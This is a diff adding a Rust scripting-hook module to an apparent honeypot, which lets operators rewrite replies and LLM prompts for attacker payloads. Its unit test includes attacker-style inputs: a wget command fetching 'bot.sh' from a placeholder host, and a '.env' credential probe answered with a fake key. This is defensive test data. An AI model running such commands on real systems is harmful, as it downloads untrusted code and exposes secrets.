@@ -0,0 +1,204 @@
+// Operator-written Rhai scripts that see every payload before the honeypot
+// answers it. A script defines
+//
+//     fn on_payload(service, payload) { ... }
+//
+// and returns () to carry on as usual, a string to send as the reply, or a map
+// with any of:
+//
+//     reply   string to send instead of the static response or the LLM's answer
+//     prompt  what to hand the LLM in place of the payload
+//     tags    a string or array of strings, recorded as `tagged` session events
+//
+// The script is reloaded with `reload-scripts` on the admin socket. A script
+// that fails to compile leaves the previous one in place.
+use rhai::{Array, Dynamic, Engine, Map, Scope, AST};
+use serde::Deserialize;
+use std::error::Error;
+use std::fs;
+use std::sync::{OnceLock, RwLock};
+use crate::prelude::*;
+
+const HOOK_FN: &str = "on_payload";
+
+#[derive(Debug, Deserialize, Clone)]
+pub struct ScriptingConfig {
+	#[serde(default)]
+	pub enabled: bool,
+	#[serde(default = "ScriptingConfig::default_path")]
+	pub path: String,
+	// Rhai operations one call may run, so a runaway loop can't stall a session.
+	#[serde(default = "ScriptingConfig::default_max_operations")]
+	pub max_operations: u64,
+}
+
+impl ScriptingConfig {
+	fn default_path() -> String {
+		"./scripts/hooks.rhai".to_string()
+	}
+
+	fn default_max_operations() -> u64 {
+		100_000
+	}
+}
+
+impl Default for ScriptingConfig {
+	fn default() -> Self {
+		ScriptingConfig {
+			enabled: false,
+			path: Self::default_path(),
+			max_operations: Self::default_max_operations(),
+		}
+	}
+}
+
+// What a script decided about one payload.
+#[derive(Debug, Default, PartialEq)]
+pub struct Hook {
+	pub reply: Option<String>,
+	pub prompt: Option<String>,
+	pub tags: Vec<String>,
+}
+
+pub struct Scripts {
+	path: String,
+	engine: Engine,
+	ast: RwLock<AST>,
+}
+
+static SCRIPTS: OnceLock<Scripts> = OnceLock::new();
+
+impl Scripts {
+	pub fn load(config: &ScriptingConfig) -> Result<Scripts, Box<dyn Error>> {
+		let mut engine = Engine::new();
+		engine.set_max_operations(config.max_operations);
+		engine.on_print(|text| info!("Script: {}", text));
+		let ast = compile(&engine, &config.path)?;
+		Ok(Scripts {
+			path: config.path.clone(),
+			engine,
+			ast: RwLock::new(ast),
+		})
+	}
+
+	pub fn reload(&self) -> Result<(), Box<dyn Error>> {
+		let ast = compile(&self.engine, &self.path)?;
+		*self.ast.write().unwrap_or_else(|e| e.into_inner()) = ast;
+		Ok(())
+	}
+
+	// A script that errors is logged and otherwise ignored, so the session carries on.
+	pub fn on_payload(&self, service: &str, payload: &str) -> Hook {
+		let ast = self.ast.read().unwrap_or_else(|e| e.into_inner());
+		let result = self
+			.engine
+			.call_fn::<Dynamic>(&mut Scope::new(), &ast, HOOK_FN, (service.to_string(), payload.to_string()))
+			.map_err(|e| e.to_string())
+			.and_then(hook_from);
+		result.unwrap_or_else(|e| {
+			warn!("Script {} failed: {}", self.path, e);
+			Hook::default()
+		})
+	}
+}
+
+fn compile(engine: &Engine, path: &str) -> Result<AST, Box<dyn Error>> {
+	let source = fs::read_to_string(path).map_err(|e| format!("failed to read {}: {}", path, e))?;
+	let ast = engine.compile(source)?;
+	if !ast.iter_functions().any(|f| f.name == HOOK_FN) {
+		return Err(format!("{} does not define {}(service, payload)", path, HOOK_FN).into());
+	}
+	Ok(ast)
+}
+
+fn hook_from(result: Dynamic) -> Result<Hook, String> {
+	if result.is_unit() {
+		return Ok(Hook::default());
+	}
+	if result.is_string() {
+		return Ok(Hook { reply: Some(result.into_string()?), ..Hook::default() });
+	}
+	let Some(mut map) = result.clone().try_cast::<Map>() else {
+		return Err(format!("{} returned a {}, expected (), a string or a map", HOOK_FN, result.type_name()));
+	};
+	let mut string = |key: &str| map.remove(key).map(|v| v.into_string().map_err(|t| format!("{} must be a string, not {}", key, t))).transpose();
+	let reply = string("reply")?;
+	let prompt = string("prompt")?;
+	let tags = match map.remove("tags") {
+		None => vec![],
+		Some(tag) if tag.is_string() => vec![tag.into_string()?],
+		Some(tags) => tags
+			.try_cast::<Array>()
+			.ok_or("tags must be a string or an array of strings")?
+			.into_iter()
+			.map(|tag| tag.into_string().map_err(|t| format!("tags must be strings, not {}", t)))
+			.collect::<Result<_, _>>()?,
+	};
+	Ok(Hook { reply, prompt, tags })
+}
+
+// Load the operator's script, if scripting is enabled. Until then every payload passes through untouched.
+pub fn install(config: &ScriptingConfig) -> Result<(), Box<dyn Error>> {
+	if !config.enabled {
+		return Ok(());
+	}
+	let scripts = Scripts::load(config)?;
+	info!("Loaded payload hooks from {}", scripts.path);
+	let _ = SCRIPTS.set(scripts);
+	Ok(())
+}
+
+pub fn reload() -> Result<(), Box<dyn Error>> {
+	SCRIPTS.get().ok_or("scripting is not enabled")?.reload()
+}
+
+pub fn on_payload(service: &str, payload: &str) -> Hook {
+	SCRIPTS.get().map(|scripts| scripts.on_payload(service, payload)).unwrap_or_default()
+}
+
+#[cfg(test)]
+mod tests {
+	use super::*;
+
+	#[test]
+	fn scripts_can_reply_rewrite_the_prompt_and_tag() {
+		let path = std::env::temp_dir().join(format!("rustbucket-hooks-{}.rhai", std::process::id()));
+		fs::write(
+			&path,
+			r#"
+			fn on_payload(service, payload) {
+				if payload.contains("wget") {
+					return #{ tags: ["dropper", service], prompt: payload + "\n(the download succeeded)" };
+				}
+				if payload.starts_with("GET /.env") {
+					return "HTTP/1.1 200 OK\r\n\r\nAPP_KEY=base64:c2VjcmV0\r\n";
+				}
+			}
+			"#,
+		)
+		.unwrap();
+		let config = ScriptingConfig { enabled: true, path: path.to_string_lossy().to_string(), max_operations: 10_000 };
+		let scripts = Scripts::load(&config).unwrap();
+
+		assert_eq!(
+			scripts.on_payload("ssh", "wget http://x/bot.sh"),
+			Hook {
+				reply: None,
+				prompt: Some("wget http://x/bot.sh\n(the download succeeded)".to_string()),
+				tags: vec!["dropper".to_string(), "ssh".to_string()],
+			}
+		);
+		assert_eq!(scripts.on_payload("http", "GET /.env HTTP/1.1").reply.as_deref(), Some("HTTP/1.1 200 OK\r\n\r\nAPP_KEY=base64:c2VjcmV0\r\n"));
+		assert_eq!(scripts.on_payload("ftp", "USER root"), Hook::default());
+
+		// A broken script is rejected and the old one keeps running; a good one replaces it
+		fs::write(&path, "fn on_payload(service, payload) { loop {} ").unwrap();
+		assert!(scripts.reload().is_err());
+		assert!(scripts.on_payload("http", "GET /.env").reply.is_some());
+		fs::write(&path, "fn on_payload(service, payload) { loop {} }").unwrap();
+		scripts.reload().unwrap();
+		// Runaway scripts are cut off at max_operations
+		assert_eq!(scripts.on_payload("http", "GET /.env"), Hook::default());
+		fs::remove_file(&path).unwrap();
+	}
+}